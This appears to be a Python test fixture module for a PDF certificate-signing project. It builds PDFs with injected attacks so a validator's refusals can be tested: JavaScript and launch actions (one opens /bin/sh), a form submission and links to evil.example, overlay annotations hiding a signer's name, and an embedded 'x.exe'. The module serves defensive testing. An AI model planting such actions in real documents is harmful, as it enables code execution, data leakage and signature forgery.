"""Documents that do something when they are opened, or show what they do not say."""

from io import BytesIO

import pikepdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from certificates.proof import signing
from tests.certificates.builders import AT

from .authority import keyring, make_page, make_pdf

NOTE = b"<< /Type /Annot /Rect [100 300 700 400] /Contents (Mallory Forger) %b >>"
ATTACKS = {
    "script_at_opening": (
        *("", "/OpenAction", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        {"has_script", "has_action"},
    ),
    "script_by_name": (
        *("/Names", "/JavaScript"),
        b"<< /Names [(a) << /S /JavaScript /JS (app.alert(1)) >>] >>",
        {"has_script"},
    ),
    "page_at_opening": (
        *("", "/OpenAction", b"<< /S /URI /URI (https://evil.example/) >>"),
        {"has_action"},
    ),
    "program_at_closing": (
        *("", "/AA", b"<< /WC << /S /Launch /F (/bin/sh) >> >>"),
        {"has_action"},
    ),
    "action_of_the_page": (
        *("page", "/AA", b"<< /O << /S /SubmitForm /F (https://evil.example/) >> >>"),
        {"has_action"},
    ),
    "form_of_its_own": (
        *("", "/AcroForm/XFA", b"(<xdp:xdp><template/></xdp:xdp>)"),
        {"has_form"},
    ),
    "layers": (
        *("", "/OCProperties", b"<< /OCGs [] /D << /Order [] >> >>"),
        {"has_layers"},
    ),
    "note_over_the_name": (
        *("page", "/Annots", NOTE % b"/Subtype /FreeText /DA (/Helv 20 Tf)"),
        {"has_annotation"},
    ),
    "link_over_the_page": (
        *("page", "/Annots"),
        NOTE % b"/Subtype /Link /A << /S /URI /URI (https://evil.example/) >>",
        {"has_annotation", "has_action"},
    ),
    "field_over_the_name": (
        *("page", "/Annots", NOTE % b"/Subtype /Widget /FT /Tx /V (Mallory)"),
        {"has_form"},
    ),
    "second_file": ("", "/AF", b"a program", {"hidden_file"}),
}
"""By name: where something is put, under which key, what, and why it is refused."""


def put_with_pikepdf(document, attack):
    """Put it in by rewriting the file."""
    place, key, what, _reasons = ATTACKS[attack]
    nodes = {"": document.Root, "page": document.pages[0].obj}
    node = nodes[place] if place in nodes else document.Root[place]
    if key == "/AF":
        stream = document.make_stream(what, Type=pikepdf.Name.EmbeddedFile)
        spec = pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec, F="x.exe", EF=pikepdf.Dictionary(F=stream)
        )
        node.AF.append(document.make_indirect(spec))
        return
    if key == "/AcroForm/XFA":
        if "/AcroForm" not in node:
            node.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array())
        node, key = node.AcroForm, "/XFA"
    value = pikepdf.Object.parse(what)
    if key == "/Annots":
        if key not in node:
            node.Annots = pikepdf.Array()
        node.Annots.append(document.make_indirect(value))
    else:
        node[key] = value


def put_with_pyhanko(writer, attack):
    """Put it in as another revision, behind the signature."""
    place, key, what, _reasons = ATTACKS[attack]
    page = writer.root["/Pages"]["/Kids"][0]
    nodes = {"": writer.root, "page": page, "/Names": writer.root["/Names"]}
    node = nodes[place]
    if key == "/AF":
        stream = generic.StreamObject(stream_data=what)
        spec = generic.DictionaryObject(
            {
                generic.pdf_name("/F"): generic.pdf_string("x.exe"),
                generic.pdf_name("/EF"): generic.DictionaryObject(
                    {generic.pdf_name("/F"): writer.add_object(stream)}
                ),
            }
        )
        value = generic.ArrayObject([*node["/AF"], writer.add_object(spec)])
    else:
        value = generic.read_object(BytesIO(what), generic.Reference(0, 0, writer))
    if key == "/AcroForm/XFA":
        node, key = node["/AcroForm"], "/XFA"
    if key == "/Annots":
        value = generic.ArrayObject([*node["/Annots"], writer.add_object(value)])
    node[generic.pdf_name(key)] = value
    writer.update_container(node)


def in_a_second_revision(attack):
    writer = IncrementalPdfFileWriter(BytesIO(make_pdf()))
    put_with_pyhanko(writer, attack)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def changed_in_place(attack):
    with pikepdf.open(BytesIO(make_pdf())) as document:
        put_with_pikepdf(document, attack)
        return _saved(document)


def signed_anew(attack, who=1):
    """Sign it whole; ``who`` is a look-alike, 0 ourselves by mistake."""
    with pikepdf.open(BytesIO(make_page())) as document:
        put_with_pikepdf(document, attack)
        return signing.sign(_saved(document), keyring(who), at=AT)[0]


def _saved(document):
    out = BytesIO()
    document.save(out)
    return out.getvalue()
